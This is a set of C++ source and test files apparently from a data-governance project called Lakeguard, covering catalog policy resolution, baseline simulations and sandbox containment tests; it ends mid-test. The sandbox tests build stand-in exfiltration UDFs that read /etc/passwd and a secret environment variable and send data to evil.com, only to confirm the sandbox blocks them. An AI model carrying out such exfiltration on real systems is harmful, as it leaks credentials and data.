    res.table.row_filter.reset();
    res.table.column_masks.clear();
    res.table.storage_root.clear();
    audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, true,
                  "FGAC table on privileged compute -> external enforcement");
    return res;
  }

  res.enforcement = EnforcementMode::kLocal;
  if (has_policies) {
    res.row_filter = table.row_filter;
    // Masks whose exempt groups cover this user are dropped at resolution
    // time (the engine then sees the raw column).
    for (const ColumnMaskPolicy& mask : table.column_masks) {
      bool exempt = false;
      for (const std::string& group : mask.exempt_groups) {
        if (users_.IsMember(user, group)) {
          exempt = true;
          break;
        }
      }
      if (!exempt) res.column_masks.push_back(mask);
    }
  }
  StorageCredential cred = authority_->Issue(
      user, compute.compute_id, {table.storage_root + "/*"},
      /*allow_write=*/false, kCredentialTtlMicros);
  res.read_token = cred.token_id;
  audit_.Record(user, compute.compute_id, "RESOLVE_RELATION", name, true,
                has_policies ? "local enforcement with FGAC policies"
                             : "local enforcement");
  return res;
}

PolicyInspection UnityCatalog::InspectPolicies(const std::string& user,
                                               const ComputeContext& compute,
                                               const std::string& name) const {
  StatePtr state = Snapshot();
  PolicyInspection out;
  out.epoch = state->epoch;

  auto view_it = state->views.find(name);
  if (view_it != state->views.end()) {
    const ViewInfo& view = view_it->second;
    out.found = true;
    out.owner = view.owner;
    if (view.materialized && view.materialization_fresh) {
      // Fresh MV behaves as a policy-free table over its stored data.
      out.is_table = true;
      out.schema = view.materialized_schema;
      out.storage_root = view.storage_root;
      out.enforcement = compute.privileged_access ? EnforcementMode::kExternal
                                                  : EnforcementMode::kLocal;
      return out;
    }
    out.is_table = false;
    out.enforcement = compute.privileged_access ? EnforcementMode::kExternal
                                                : EnforcementMode::kLocal;
    return out;
  }

  auto table_it = state->tables.find(name);
  if (table_it == state->tables.end()) return out;
  const TableInfo& table = table_it->second;
  out.found = true;
  out.is_table = true;
  out.owner = table.owner;
  out.schema = table.schema;
  out.storage_root = table.storage_root;

  if (table.HasFineGrainedPolicies() && compute.privileged_access) {
    // Same decision ResolveRelation makes: the policies themselves stay
    // hidden from privileged compute; only the enforcement mode is visible.
    out.enforcement = EnforcementMode::kExternal;
    out.storage_root.clear();
    return out;
  }

  out.enforcement = EnforcementMode::kLocal;
  out.row_filter = table.row_filter;
  for (const ColumnMaskPolicy& mask : table.column_masks) {
    bool exempt = false;
    for (const std::string& group : mask.exempt_groups) {
      if (users_.IsMember(user, group)) {
        exempt = true;
        break;
      }
    }
    if (!exempt) out.column_masks.push_back(mask);
  }
  return out;
}

PolicyVersionStamp UnityCatalog::InspectPolicyStamp(
    const std::string& user, const ComputeContext& compute,
    const std::string& name) const {
  StatePtr state = Snapshot();
  PolicyVersionStamp out;
  out.epoch = state->epoch;

  auto table_it = state->tables.find(name);
  if (table_it == state->tables.end()) return out;
  const TableInfo& table = table_it->second;
  if (table.HasFineGrainedPolicies() && compute.privileged_access) {
    // Externally enforced: the policies never reach this engine, so there is
    // no fused program to validate.
    return out;
  }
  out.found = true;
  // Slot 0 is always the row filter (null when the table has none) so that
  // adding or dropping a filter shifts no mask slots.
  out.policies.push_back(table.row_filter.has_value()
                             ? table.row_filter->predicate
                             : nullptr);
  for (const ColumnMaskPolicy& mask : table.column_masks) {
    bool exempt = false;
    for (const std::string& group : mask.exempt_groups) {
      if (users_.IsMember(user, group)) {
        exempt = true;
        break;
      }
    }
    if (!exempt) out.policies.push_back(mask.mask_expr);
  }
  return out;
}

Result<FunctionInfo> UnityCatalog::GetFunction(const std::string& name) const {
  StatePtr state = Snapshot();
  auto it = state->functions.find(name);
  if (it == state->functions.end()) {
    return Status::NotFound("function '" + name + "' does not exist");
  }
  return it->second;
}

Result<FunctionInfo> UnityCatalog::ResolveFunction(
    const std::string& user, const ComputeContext& compute,
    const std::string& name) {
  // Fail closed: a poisoned catalog authorizes nothing.
  LG_RETURN_IF_ERROR(health());
  StatePtr state = Snapshot();
  auto it = state->functions.find(name);
  if (it == state->functions.end()) {
    audit_.Record(user, compute.compute_id, "RESOLVE_FUNCTION", name, false,
                  "not found");
    return Status::NotFound(InvisibleFunction(name));
  }
  std::string why;
  if (!CheckDataAccess(*state, user, compute, name, Privilege::kExecute,
                       &why)) {
    audit_.Record(user, compute.compute_id, "RESOLVE_FUNCTION", name, false,
                  why);
    if (!HasNamespaceVisibility(*state, user, compute, name)) {
      return Status::NotFound(InvisibleFunction(name));
    }
    return Status::PermissionDenied("user '" + user +
                                    "' cannot EXECUTE '" + name + "': " + why);
  }
  audit_.Record(user, compute.compute_id, "RESOLVE_FUNCTION", name, true);
  return it->second;
}

Result<StorageCredential> UnityCatalog::VendWriteCredential(
    const std::string& user, const ComputeContext& compute,
    const std::string& table) {
  // Fail closed: a poisoned catalog authorizes nothing.
  LG_RETURN_IF_ERROR(health());
  StatePtr state = Snapshot();
  auto it = state->tables.find(table);
  if (it == state->tables.end()) {
    return Status::NotFound("table '" + table + "' does not exist");
  }
  std::string why;
  if (!CheckDataAccess(*state, user, compute, table, Privilege::kModify,
                       &why)) {
    audit_.Record(user, compute.compute_id, "VEND_CREDENTIAL", table, false,
                  why);
    return Status::PermissionDenied("user '" + user + "' cannot MODIFY '" +
                                    table + "': " + why);
  }
  if (it->second.HasFineGrainedPolicies() && compute.privileged_access) {
    audit_.Record(user, compute.compute_id, "VEND_CREDENTIAL", table, false,
                  "FGAC table on privileged compute");
    return Status::PermissionDenied(
        "table '" + table +
        "' has fine-grained policies; direct storage access from privileged "
        "compute is not allowed");
  }
  StorageCredential cred = authority_->Issue(
      user, compute.compute_id, {it->second.storage_root + "/*"},
      /*allow_write=*/true, kCredentialTtlMicros);
  audit_.Record(user, compute.compute_id, "VEND_CREDENTIAL", table, true,
                "write token " + cred.token_id);
  return cred;
}

Result<StorageCredential> UnityCatalog::VendVolumeCredential(
    const std::string& user, const ComputeContext& compute,
    const std::string& volume, bool write) {
  // Fail closed: a poisoned catalog authorizes nothing.
  LG_RETURN_IF_ERROR(health());
  StatePtr state = Snapshot();
  auto it = state->volumes.find(volume);
  if (it == state->volumes.end()) {
    return Status::NotFound("volume '" + volume + "' does not exist");
  }
  Privilege needed = write ? Privilege::kWriteVolume : Privilege::kReadVolume;
  std::string why;
  if (!CheckDataAccess(*state, user, compute, volume, needed, &why)) {
    audit_.Record(user, compute.compute_id, "VEND_VOLUME_CREDENTIAL", volume,
                  false, why);
    return Status::PermissionDenied("user '" + user + "' lacks " +
                                    PrivilegeName(needed) + " on '" + volume +
                                    "': " + why);
  }
  StorageCredential cred = authority_->Issue(
      user, compute.compute_id, {it->second.storage_prefix + "*"}, write,
      kCredentialTtlMicros);
  audit_.Record(user, compute.compute_id, "VEND_VOLUME_CREDENTIAL", volume,
                true);
  return cred;
}

}  // namespace lakeguard
