// Tests for src/baselines: the Membrane split-domain model, the shared-pool
// and per-user-cluster comparisons (§2.5/§7), the Table 1 reference data
// and the replica cost model (§2.2), plus enforcement parity between
// Lakeguard's in-plan FGAC and the Membrane cryptographic baseline.

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "baselines/capabilities.h"
#include "baselines/membrane.h"
#include "core/platform.h"

namespace lakeguard {
namespace {

std::vector<SimJob> MixedWorkload(int users, int jobs_per_user,
                                  int64_t duration, bool user_code) {
  std::vector<SimJob> jobs;
  for (int j = 0; j < jobs_per_user; ++j) {
    for (int u = 0; u < users; ++u) {
      SimJob job;
      job.user = "user-" + std::to_string(u);
      job.arrival_micros = j * duration / 2;  // overlapping bursts
      job.duration_micros = duration;
      job.has_user_code = user_code;
      jobs.push_back(job);
    }
  }
  std::stable_sort(jobs.begin(), jobs.end(),
                   [](const SimJob& a, const SimJob& b) {
                     return a.arrival_micros < b.arrival_micros;
                   });
  return jobs;
}

TEST(MembraneTest, UserCodeJobsConsumeBothDomains) {
  MembraneConfig config;
  config.total_slots = 4;
  config.untrusted_fraction = 0.5;
  // 2 user-code jobs: each needs 1 trusted + 1 untrusted slot.
  std::vector<SimJob> jobs = {{"u", 0, 100, true}, {"v", 0, 100, true}};
  SimResult split = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(split.makespan_micros, 100);
  // 4 user-code jobs exhaust both 2-slot domains pairwise: makespan 200.
  jobs.push_back({"w", 0, 100, true});
  jobs.push_back({"x", 0, 100, true});
  SimResult split4 = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(split4.makespan_micros, 200);
  // The same 4 jobs on a shared 4-slot pool: makespan 100.
  SimResult shared = RunSharedPoolSimulation(jobs, 4);
  EXPECT_EQ(shared.makespan_micros, 100);
}

TEST(MembraneTest, PureSqlJobsStrandUntrustedCapacity) {
  MembraneConfig config;
  config.total_slots = 8;
  config.untrusted_fraction = 0.5;
  auto jobs = MixedWorkload(4, 2, 1000, /*user_code=*/false);
  SimResult membrane = RunMembraneSimulation(jobs, config);
  SimResult shared = RunSharedPoolSimulation(jobs, 8);
  // SQL-only: untrusted half idles entirely under Membrane.
  EXPECT_LT(membrane.utilization, shared.utilization + 1e-9);
  EXPECT_LE(membrane.utilization, 0.55);
}

TEST(MembraneTest, SharedPoolWinsOnMixedBurstyLoad) {
  auto jobs = MixedWorkload(6, 4, 1000, /*user_code=*/true);
  SimResult shared = RunSharedPoolSimulation(jobs, 12);
  MembraneConfig config;
  config.total_slots = 12;
  SimResult membrane = RunMembraneSimulation(jobs, config);
  SimResult per_user = RunPerUserClustersSimulation(jobs, 2);  // 6*2=12 slots
  // The paper's utilization claim, measured: shared >= membrane, per-user.
  EXPECT_GE(shared.utilization, membrane.utilization - 1e-9);
  EXPECT_GE(shared.utilization, per_user.utilization - 1e-9);
  EXPECT_LE(shared.makespan_micros, membrane.makespan_micros);
  EXPECT_LE(shared.makespan_micros, per_user.makespan_micros);
}

TEST(MembraneTest, DegenerateConfigsClamped) {
  MembraneConfig config;
  config.total_slots = 2;
  config.untrusted_fraction = 0.0;  // clamps to >=1 slot per domain
  std::vector<SimJob> jobs = {{"u", 0, 10, true}};
  SimResult r = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(r.makespan_micros, 10);
  EXPECT_EQ(RunMembraneSimulation({}, config).jobs, 0u);
}

// ---- Table 1 reference data -------------------------------------------------------------

TEST(CapabilitiesTest, ReferencePlatformsMatchPaperTable1) {
  auto platforms = ReferencePlatforms();
  ASSERT_EQ(platforms.size(), 4u);
  const auto& membrane = platforms[0];
  EXPECT_EQ(membrane.name, "AWS EMR Membrane");
  EXPECT_EQ(membrane.multi_user_langs, "none");
  EXPECT_TRUE(membrane.row_filter);
  EXPECT_FALSE(membrane.materialized_views);
  const auto& lakeformation = platforms[1];
  EXPECT_FALSE(lakeformation.views);
  EXPECT_EQ(lakeformation.external_filtering, "yes");
  const auto& fabric = platforms[2];
  EXPECT_EQ(fabric.unified_policies, "DWH only");
  EXPECT_FALSE(fabric.row_filter);
  const auto& biglake = platforms[3];
  EXPECT_EQ(biglake.external_filtering, "BQ Storage API");
  // None of the four supports materialized views or full multi-user user
  // code — Lakeguard's differentiators in Table 1.
  for (const auto& p : platforms) {
    EXPECT_FALSE(p.materialized_views) << p.name;
    EXPECT_NE(p.multi_user_langs, "SQL, Python, Scala, R") << p.name;
  }
}

TEST(CapabilitiesTest, RenderedTableMentionsAllPlatforms) {
  std::string rendered = RenderCapabilityTable(ReferencePlatforms());
  EXPECT_NE(rendered.find("AWS EMR Membrane"), std::string::npos);
  EXPECT_NE(rendered.find("Row filters"), std::string::npos);
  EXPECT_NE(rendered.find("Materialized views"), std::string::npos);
}

// ---- Membrane cryptographic enforcement parity ------------------------------------------

/// Same platform shape as the engine tests: one orders table, a row filter
/// keyed on group membership and a redacting column mask, two querying users
/// on opposite sides of the group boundary.
class MembraneParityTest : public ::testing::Test {
 protected:
  MembraneParityTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());
    EXPECT_TRUE(platform_.AddUser("bob").ok());
    EXPECT_TRUE(platform_.AddGroup("sales_global").ok());
    EXPECT_TRUE(platform_.AddUserToGroup("bob", "sales_global").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");
    MustSql(
        "CREATE TABLE main.s.orders ("
        "  region STRING, amount BIGINT, seller STRING)");
    MustSql(
        "INSERT INTO main.s.orders VALUES "
        "('US', 10, 'ann'), ('US', 20, 'joe'), ('EU', 5, 'zoe'), "
        "('EU', 40, 'max'), ('APAC', 100, 'kim')");
    for (const char* u : {"alice", "bob"}) {
      MustSql(std::string("GRANT USE CATALOG ON main TO ") + u);
      MustSql(std::string("GRANT USE SCHEMA ON main.s TO ") + u);
      MustSql(std::string("GRANT SELECT ON main.s.orders TO ") + u);
    }
    MustSql(
        "ALTER TABLE main.s.orders SET ROW FILTER "
        "(region = 'US' OR IS_ACCOUNT_GROUP_MEMBER('sales_global'))");
    MustSql(
        "ALTER TABLE main.s.orders ALTER COLUMN seller SET MASK "
        "(REDACT(seller))");
  }

  Table MustSql(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    EXPECT_TRUE(result.ok()) << sql << " -> " << result.status();
    return result.ok() ? *result : Table();
  }

  /// The same logical rows the INSERT committed, rebuilt in memory — the raw
  /// pre-policy data the membrane's untrusted domain would ship across the
  /// boundary.
  static Table RawOrders() {
    Schema schema({{"region", TypeKind::kString},
                   {"amount", TypeKind::kInt64},
                   {"seller", TypeKind::kString}});
    TableBuilder builder(schema);
    auto row = [&](const char* r, int64_t a, const char* s) {
      EXPECT_TRUE(builder
                      .AppendRow({Value::String(r), Value::Int(a),
                                  Value::String(s)})
                      .ok());
    };
    row("US", 10, "ann");
    row("US", 20, "joe");
    // Batch boundary in the middle: parity must hold across batches too.
    builder.FinishBatch();
    row("EU", 5, "zoe");
    row("EU", 40, "max");
    row("APAC", 100, "kim");
    return builder.Build();
  }

  EvalContext ContextFor(const std::string& user) {
    EvalContext ctx;
    ctx.current_user = user;
    const UserDirectory* directory = &platform_.catalog().users();
    ctx.is_group_member = [directory](const std::string& u,
                                      const std::string& g) {
      return directory->IsMember(u, g);
    };
    ctx.user_attribute = [directory](const std::string& u,
                                     const std::string& k) {
      auto value = directory->GetAttribute(u, k);
      return value.ok() ? *value : std::string();
    };
    return ctx;
  }

  /// Row-set fingerprint that ignores batch layout and row order.
  static std::vector<std::string> SortedRows(const Table& table) {
    auto combined = table.Combine();
    EXPECT_TRUE(combined.ok()) << combined.status();
    std::vector<std::string> rows;
    if (!combined.ok()) return rows;
    for (size_t r = 0; r < combined->num_rows(); ++r) {
      std::string row;
      for (size_t c = 0; c < combined->num_columns(); ++c) {
        row += combined->CellAt(r, c).ToString();
        row += '|';
      }
      rows.push_back(std::move(row));
    }
    std::sort(rows.begin(), rows.end());
    return rows;
  }

  /// Runs the membrane path with the *effective* policies the catalog
  /// reports for `user` — the same inputs the analyzer bakes into the plan.
  Result<Table> MembraneFor(const std::string& user,
                            MembraneEnforceStats* stats) {
    auto ctx = platform_.DirectContext(cluster_, user);
    EXPECT_TRUE(ctx.ok());
    PolicyInspection policies = platform_.catalog().InspectPolicies(
        user, ctx->compute, "main.s.orders");
    return MembraneEnforceScan(RawOrders(), policies.row_filter,
                               policies.column_masks, ContextFor(user),
                               "membrane-test-key", stats);
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

TEST_F(MembraneParityTest, VisibleRowsMatchEnginePathForFilteredUser) {
  auto engine_ctx = platform_.DirectContext(cluster_, "alice");
  ASSERT_TRUE(engine_ctx.ok());
  auto engine_rows = cluster_->engine->ExecuteSql(
      "SELECT region, amount, seller FROM main.s.orders", *engine_ctx);
  ASSERT_TRUE(engine_rows.ok()) << engine_rows.status();

  MembraneEnforceStats stats;
  auto membrane_rows = MembraneFor("alice", &stats);
  ASSERT_TRUE(membrane_rows.ok()) << membrane_rows.status();

  // alice is outside sales_global: only the 2 US rows, sellers redacted.
  EXPECT_EQ(membrane_rows->num_rows(), 2u);
  EXPECT_EQ(SortedRows(*engine_rows), SortedRows(*membrane_rows));
  // The crypto tax: every raw row sealed once and verified once, whether or
  // not the filter later drops it.
  EXPECT_EQ(stats.rows_in, 5u);
  EXPECT_EQ(stats.seals_computed, 5u);
  EXPECT_EQ(stats.seals_verified, 5u);
  EXPECT_GT(stats.sealed_bytes, 0u);
  EXPECT_EQ(stats.verify_failures, 0u);
}

TEST_F(MembraneParityTest, VisibleRowsMatchEnginePathForGroupMember) {
  auto engine_ctx = platform_.DirectContext(cluster_, "bob");
  ASSERT_TRUE(engine_ctx.ok());
  auto engine_rows = cluster_->engine->ExecuteSql(
      "SELECT region, amount, seller FROM main.s.orders", *engine_ctx);
  ASSERT_TRUE(engine_rows.ok()) << engine_rows.status();

  auto membrane_rows = MembraneFor("bob", nullptr);
  ASSERT_TRUE(membrane_rows.ok()) << membrane_rows.status();

  // bob is in sales_global: the filter passes all 5 rows; the mask still
  // applies identically on both paths.
  EXPECT_EQ(membrane_rows->num_rows(), 5u);
  EXPECT_EQ(SortedRows(*engine_rows), SortedRows(*membrane_rows));
}

TEST_F(MembraneParityTest, CatalogedUdfPoliciesRejectedNotSilentlySkipped) {
  // A policy calling a non-builtin function cannot be enforced without a
  // sandbox; the membrane baseline must fail closed, not pass rows through.
  RowFilterPolicy filter;
  filter.predicate = Func("main.s.secret_gate", {Col("region")});
  auto result = MembraneEnforceScan(RawOrders(), filter, {},
                                    ContextFor("alice"), "k", nullptr);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kUnimplemented)
      << result.status();
}

// ---- Replica cost model -----------------------------------------------------------------

TEST(ReplicaCostTest, StorageAndChurnScaleWithAudiences) {
  ReplicaCostModel model;
  model.base_table_bytes = 1'000'000'000;  // 1 GB
  model.policy_audiences = 5;
  model.refreshes_per_day = 2.0;
  EXPECT_EQ(model.ReplicaStorageBytes(), 6'000'000'000u);
  EXPECT_EQ(model.PolicyStorageBytes(), 1'000'000'000u);
  EXPECT_DOUBLE_EQ(model.ReplicaDailyChurnBytes(), 1e10);
  // Policy enforcement is audience-count independent.
  model.policy_audiences = 50;
  EXPECT_EQ(model.PolicyStorageBytes(), 1'000'000'000u);
}

}  // namespace
}  // namespace lakeguard
