// Tests for src/baselines: the Membrane split-domain model, the shared-pool
// and per-user-cluster comparisons (§2.5/§7), the Table 1 reference data
// and the replica cost model (§2.2).

#include <gtest/gtest.h>

#include "baselines/capabilities.h"
#include "baselines/membrane.h"

namespace lakeguard {
namespace {

std::vector<SimJob> MixedWorkload(int users, int jobs_per_user,
                                  int64_t duration, bool user_code) {
  std::vector<SimJob> jobs;
  for (int j = 0; j < jobs_per_user; ++j) {
    for (int u = 0; u < users; ++u) {
      SimJob job;
      job.user = "user-" + std::to_string(u);
      job.arrival_micros = j * duration / 2;  // overlapping bursts
      job.duration_micros = duration;
      job.has_user_code = user_code;
      jobs.push_back(job);
    }
  }
  std::stable_sort(jobs.begin(), jobs.end(),
                   [](const SimJob& a, const SimJob& b) {
                     return a.arrival_micros < b.arrival_micros;
                   });
  return jobs;
}

TEST(MembraneTest, UserCodeJobsConsumeBothDomains) {
  MembraneConfig config;
  config.total_slots = 4;
  config.untrusted_fraction = 0.5;
  // 2 user-code jobs: each needs 1 trusted + 1 untrusted slot.
  std::vector<SimJob> jobs = {{"u", 0, 100, true}, {"v", 0, 100, true}};
  SimResult split = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(split.makespan_micros, 100);
  // 4 user-code jobs exhaust both 2-slot domains pairwise: makespan 200.
  jobs.push_back({"w", 0, 100, true});
  jobs.push_back({"x", 0, 100, true});
  SimResult split4 = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(split4.makespan_micros, 200);
  // The same 4 jobs on a shared 4-slot pool: makespan 100.
  SimResult shared = RunSharedPoolSimulation(jobs, 4);
  EXPECT_EQ(shared.makespan_micros, 100);
}

TEST(MembraneTest, PureSqlJobsStrandUntrustedCapacity) {
  MembraneConfig config;
  config.total_slots = 8;
  config.untrusted_fraction = 0.5;
  auto jobs = MixedWorkload(4, 2, 1000, /*user_code=*/false);
  SimResult membrane = RunMembraneSimulation(jobs, config);
  SimResult shared = RunSharedPoolSimulation(jobs, 8);
  // SQL-only: untrusted half idles entirely under Membrane.
  EXPECT_LT(membrane.utilization, shared.utilization + 1e-9);
  EXPECT_LE(membrane.utilization, 0.55);
}

TEST(MembraneTest, SharedPoolWinsOnMixedBurstyLoad) {
  auto jobs = MixedWorkload(6, 4, 1000, /*user_code=*/true);
  SimResult shared = RunSharedPoolSimulation(jobs, 12);
  MembraneConfig config;
  config.total_slots = 12;
  SimResult membrane = RunMembraneSimulation(jobs, config);
  SimResult per_user = RunPerUserClustersSimulation(jobs, 2);  // 6*2=12 slots
  // The paper's utilization claim, measured: shared >= membrane, per-user.
  EXPECT_GE(shared.utilization, membrane.utilization - 1e-9);
  EXPECT_GE(shared.utilization, per_user.utilization - 1e-9);
  EXPECT_LE(shared.makespan_micros, membrane.makespan_micros);
  EXPECT_LE(shared.makespan_micros, per_user.makespan_micros);
}

TEST(MembraneTest, DegenerateConfigsClamped) {
  MembraneConfig config;
  config.total_slots = 2;
  config.untrusted_fraction = 0.0;  // clamps to >=1 slot per domain
  std::vector<SimJob> jobs = {{"u", 0, 10, true}};
  SimResult r = RunMembraneSimulation(jobs, config);
  EXPECT_EQ(r.makespan_micros, 10);
  EXPECT_EQ(RunMembraneSimulation({}, config).jobs, 0u);
}

// ---- Table 1 reference data -------------------------------------------------------------

TEST(CapabilitiesTest, ReferencePlatformsMatchPaperTable1) {
  auto platforms = ReferencePlatforms();
  ASSERT_EQ(platforms.size(), 4u);
  const auto& membrane = platforms[0];
  EXPECT_EQ(membrane.name, "AWS EMR Membrane");
  EXPECT_EQ(membrane.multi_user_langs, "none");
  EXPECT_TRUE(membrane.row_filter);
  EXPECT_FALSE(membrane.materialized_views);
  const auto& lakeformation = platforms[1];
  EXPECT_FALSE(lakeformation.views);
  EXPECT_EQ(lakeformation.external_filtering, "yes");
  const auto& fabric = platforms[2];
  EXPECT_EQ(fabric.unified_policies, "DWH only");
  EXPECT_FALSE(fabric.row_filter);
  const auto& biglake = platforms[3];
  EXPECT_EQ(biglake.external_filtering, "BQ Storage API");
  // None of the four supports materialized views or full multi-user user
  // code — Lakeguard's differentiators in Table 1.
  for (const auto& p : platforms) {
    EXPECT_FALSE(p.materialized_views) << p.name;
    EXPECT_NE(p.multi_user_langs, "SQL, Python, Scala, R") << p.name;
  }
}

TEST(CapabilitiesTest, RenderedTableMentionsAllPlatforms) {
  std::string rendered = RenderCapabilityTable(ReferencePlatforms());
  EXPECT_NE(rendered.find("AWS EMR Membrane"), std::string::npos);
  EXPECT_NE(rendered.find("Row filters"), std::string::npos);
  EXPECT_NE(rendered.find("Materialized views"), std::string::npos);
}

// ---- Replica cost model -----------------------------------------------------------------

TEST(ReplicaCostTest, StorageAndChurnScaleWithAudiences) {
  ReplicaCostModel model;
  model.base_table_bytes = 1'000'000'000;  // 1 GB
  model.policy_audiences = 5;
  model.refreshes_per_day = 2.0;
  EXPECT_EQ(model.ReplicaStorageBytes(), 6'000'000'000u);
  EXPECT_EQ(model.PolicyStorageBytes(), 1'000'000'000u);
  EXPECT_DOUBLE_EQ(model.ReplicaDailyChurnBytes(), 1e10);
  // Policy enforcement is audience-count independent.
  model.policy_audiences = 50;
  EXPECT_EQ(model.PolicyStorageBytes(), 1'000'000'000u);
}

}  // namespace
}  // namespace lakeguard
