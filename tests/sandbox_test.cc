// Tests for src/sandbox: host environment, policy-mediated host access,
// batch execution across the channel boundary, fusion via multi-invocation
// batches, and the dispatcher's pooling / trust-domain invariants.

#include <gtest/gtest.h>

#include "columnar/table.h"
#include "common/clock.h"
#include "sandbox/dispatcher.h"
#include "sandbox/host_env.h"
#include "sandbox/sandbox.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

class SandboxTest : public ::testing::Test {
 protected:
  SandboxTest() : clock_(0), env_(&clock_) {
    env_.SetEnv("SECRET", "hunter2");
    env_.WriteFile("/etc/passwd", "root:x:0:0");
    env_.RegisterHttpHandler("http://api.good.com/",
                             [](const std::string&) { return "200 OK"; });
  }

  RecordBatch ArgBatch(std::vector<std::pair<int64_t, int64_t>> rows) {
    TableBuilder builder(Schema({{"a0", TypeKind::kInt64, true},
                                 {"a1", TypeKind::kInt64, true}}));
    for (auto [a, b] : rows) {
      EXPECT_TRUE(builder.AppendRow({Value::Int(a), Value::Int(b)}).ok());
    }
    auto combined = builder.Build().Combine();
    EXPECT_TRUE(combined.ok());
    return *combined;
  }

  UdfInvocation SumInvocation() {
    UdfInvocation inv;
    inv.bytecode = canned::SumUdf();
    inv.arg_indices = {0, 1};
    inv.result_name = "sum";
    inv.result_type = TypeKind::kInt64;
    return inv;
  }

  SimulatedClock clock_;
  SimulatedHostEnvironment env_;
};

// ---- Host environment ----------------------------------------------------------------

TEST_F(SandboxTest, HostEnvBasics) {
  EXPECT_EQ(*env_.ReadFile("/etc/passwd"), "root:x:0:0");
  EXPECT_TRUE(env_.ReadFile("/nope").status().IsNotFound());
  EXPECT_EQ(*env_.GetEnv("SECRET"), "hunter2");
  EXPECT_TRUE(env_.FileExists("/etc/passwd"));
  auto body = env_.HttpGet("http://api.good.com/x", "", true);
  ASSERT_TRUE(body.ok());
  EXPECT_EQ(*body, "200 OK");
  EXPECT_TRUE(env_.HttpGet("http://unrouted.io/", "", true)
                  .status()
                  .IsNotFound());
  EXPECT_EQ(env_.egress_log().size(), 2u);
}

// ---- Sandbox execution ----------------------------------------------------------------

TEST_F(SandboxTest, ExecutesBatchAcrossBoundary) {
  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  auto result = sandbox.ExecuteBatch(ArgBatch({{1, 2}, {3, 4}, {5, 6}}),
                                     {SumInvocation()});
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(result->num_rows(), 3u);
  EXPECT_EQ(result->column(0).IntAt(0), 3);
  EXPECT_EQ(result->column(0).IntAt(2), 11);
  // Bytes really crossed the boundary, both ways.
  EXPECT_GT(sandbox.stats().bytes_in, 0u);
  EXPECT_GT(sandbox.stats().bytes_out, 0u);
  EXPECT_EQ(sandbox.stats().udf_calls, 3u);
}

TEST_F(SandboxTest, FusedInvocationsOneRoundTrip) {
  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  UdfInvocation hash;
  hash.bytecode = canned::HashUdf(2);
  hash.arg_indices = {0};
  hash.result_name = "h";
  hash.result_type = TypeKind::kString;
  auto result =
      sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {SumInvocation(), hash});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->num_columns(), 2u);
  EXPECT_EQ(sandbox.stats().batches, 1u);  // one boundary crossing for both
}

TEST_F(SandboxTest, ResultCastToDeclaredType) {
  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  UdfInvocation inv = SumInvocation();
  inv.result_type = TypeKind::kFloat64;  // engine declared DOUBLE
  auto result = sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {inv});
  ASSERT_TRUE(result.ok());
  EXPECT_DOUBLE_EQ(result->column(0).DoubleAt(0), 3.0);
}

TEST_F(SandboxTest, BadArgIndexRejected) {
  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  UdfInvocation inv = SumInvocation();
  inv.arg_indices = {0, 9};
  EXPECT_FALSE(sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {inv}).ok());
}

// ---- Containment ------------------------------------------------------------------------

TEST_F(SandboxTest, LockedDownDeniesFileEnvNetwork) {
  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
                  &clock_);
  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
  auto batch = *builder.Build().Combine();

  UdfInvocation file;
  file.bytecode = canned::FileExfiltrationUdf("/etc/passwd");
  file.result_name = "f";
  file.result_type = TypeKind::kString;
  auto r1 = sandbox.ExecuteBatch(batch, {file});
  EXPECT_TRUE(r1.status().IsPermissionDenied());

  UdfInvocation env_probe;
  env_probe.bytecode = canned::EnvProbeUdf("SECRET");
  env_probe.result_name = "e";
  env_probe.result_type = TypeKind::kString;
  EXPECT_TRUE(
      sandbox.ExecuteBatch(batch, {env_probe}).status().IsPermissionDenied());

  UdfInvocation net;
  net.bytecode = canned::NetworkExfiltrationUdf("http://evil.com/drop");
  net.arg_indices = {0};
  net.result_name = "n";
  net.result_type = TypeKind::kString;
  EXPECT_TRUE(
      sandbox.ExecuteBatch(batch, {net}).status().IsPermissionDenied());
  EXPECT_GE(sandbox.stats().denied_host_calls, 3u);
  // The drop was recorded by the "network namespace".
  EXPECT_GE(env_.BlockedEgressCount(), 1u);
}

TEST_F(SandboxTest, EgressAllowListIsExact) {
  SandboxPolicy policy = SandboxPolicy::WithEgress({"api.good.com"});
  Sandbox sandbox("sbx-t", "owner", policy, &env_, &clock_);
  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
  auto batch = *builder.Build().Combine();

  UdfInvocation ok_call;
  ok_call.bytecode = canned::NetworkExfiltrationUdf("http://api.good.com/x");
  ok_call.arg_indices = {0};
  ok_call.result_name = "r";
